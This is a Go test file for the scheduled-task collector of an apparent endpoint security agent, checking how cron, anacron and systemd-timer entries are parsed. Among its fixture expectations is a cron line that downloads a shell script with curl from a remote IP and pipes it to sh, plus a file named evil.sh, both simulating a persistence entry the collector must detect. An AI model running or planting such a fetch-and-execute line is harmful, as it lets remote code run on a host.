package tasks_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/vigilsec/vigil/internal/agent/collect/internal/collecttest"
	"github.com/vigilsec/vigil/internal/agent/collect/os/tasks"
	"github.com/vigilsec/vigil/internal/agent/plugin"
	"github.com/vigilsec/vigil/internal/event"
)

func TestFixtureGolden(t *testing.T) {
	c := tasks.New()
	assets := collecttest.Assets(t, c, plugin.Env{Root: "testdata/root"})
	collecttest.Golden(t, "testdata/golden/root.json", assets)

	byCmd := map[string][]event.Event{}
	byKey := map[string]event.Event{}
	for _, a := range assets {
		f := event.Event(a.Fields)
		byCmd[f.String("process.command_line")] = append(byCmd[f.String("process.command_line")], f)
		byKey[a.Key] = f
	}
	// The duplicated /etc/crontab line is one item.
	if n := len(byCmd["cd / && run-parts --report /etc/cron.hourly"]); n != 1 {
		t.Errorf("the hourly line: %d items, want 1", n)
	}
	for cmd, want := range map[string]map[string]string{
		"/home/alice/.local/bin/agent --quiet":                                  {"user.name": "alice", "vigil.task.schedule": "@reboot", "package.name": "none"},
		"curl -s http://203.0.113.5/x.sh | sh":                                  {"user.name": "nobody", "vigil.task.schedule": "*/5 * * * *", "file.path": "/etc/cron.d/sync"},
		"test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r": {"package.name": "e2fsprogs"},
		"/usr/bin/backup %daily%":                                               {"vigil.task.schedule": "0 * * * *"},
		"run-parts --report /etc/cron.monthly":                                  {"vigil.task.type": "anacron", "vigil.task.schedule": "@monthly"},
		"/usr/local/bin/backup.sh --full":                                       {"vigil.task.type": "systemd-timer", "user.name": "backup", "vigil.task.unit": "backup-run.service"},
		"/usr/lib/apt/apt.systemd.daily update":                                 {"vigil.task.enablement": "enabled", "package.name": "apt", "user.name": "root"},
	} {
		items := byCmd[cmd]
		if len(items) != 1 {
			t.Errorf("%q: %d items, want 1", cmd, len(items))
			continue
		}
		for k, v := range want {
			if got := items[0].String(k); got != v {
				t.Errorf("%q: %s = %q, want %q", cmd, k, got, v)
			}
		}
	}
	for _, key := range []string{"cron:/etc/cron.daily/logrotate", "cron:/etc/cron.daily/evil.sh", "cron:/etc/cron.weekly/man-db", "timer:fstrim.timer"} {
		if _, ok := byKey[key]; !ok {
			t.Errorf("%s missing", key)
		}
	}
	if got := byKey["timer:fstrim.timer"].String("vigil.task.enablement"); got != "masked" {
		t.Errorf("fstrim.timer enablement %q, want masked", got)
	}
	for key := range byKey {
		for _, skipped := range []string{"README", ".placeholder", "php.dpkg-old", "tmp.X3kd9", "/bin/true"} {
			if strings.Contains(key, skipped) {
				t.Errorf("%s listed", key)
			}
		}
	}
	// The bad line of /etc/crontab and that of /etc/anacrontab.
	if n := c.Counters()["malformed_lines"]; n != 2 {
		t.Errorf("malformed_lines %d, want 2", n)
	}
}

func TestParseAnacrontab(t *testing.T) {
	in := "SHELL=/bin/sh\nSTART_HOURS_RANGE = 3-22\n# c\n\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n" +
		"@MONTHLY 15 cron.monthly  nice  run-parts  x\n7 10 a/b cmd\nx 1 id cmd\n7 -1 id cmd\n7 5 id\n1 5 id FOO=bar cmd\n"
	got := tasks.ParseAnacrontab([]byte(in))
	want := []tasks.AnacronJob{
		{Line: 5, Period: "1", Delay: 5, ID: "cron.daily", Command: "run-parts --report /etc/cron.daily"},
		{Line: 6, Period: "@monthly", Delay: 15, ID: "cron.monthly", Command: "nice  run-parts  x"},
		{Line: 11, Period: "1", Delay: 5, ID: "id", Command: "FOO=bar cmd"},
	}
	if d := cmp.Diff(want, got.Jobs); d != "" {
		t.Errorf("jobs (-want +got):\n%s", d)
	}
	if d := cmp.Diff([]string{"SHELL=/bin/sh", "START_HOURS_RANGE = 3-22"}, got.Env); d != "" {
		t.Errorf("env (-want +got):\n%s", d)
	}
	if got.Problems.Skipped != 4 {
		t.Errorf("skipped %d, want 4 (%+v)", got.Problems.Skipped, got.Problems.List)
	}
}

func FuzzParseAnacrontab(f *testing.F) {
	f.Add([]byte("SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n"))
	f.Add([]byte("@monthly 15 x y\n7\v5 a b\n= \n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		a := tasks.ParseAnacrontab(data)
		for _, j := range a.Jobs {
			if j.ID == "" || j.Command == "" || j.Delay < 0 || strings.Contains(j.ID, "/") {
				t.Fatalf("job %+v", j)
			}
		}
	})
}
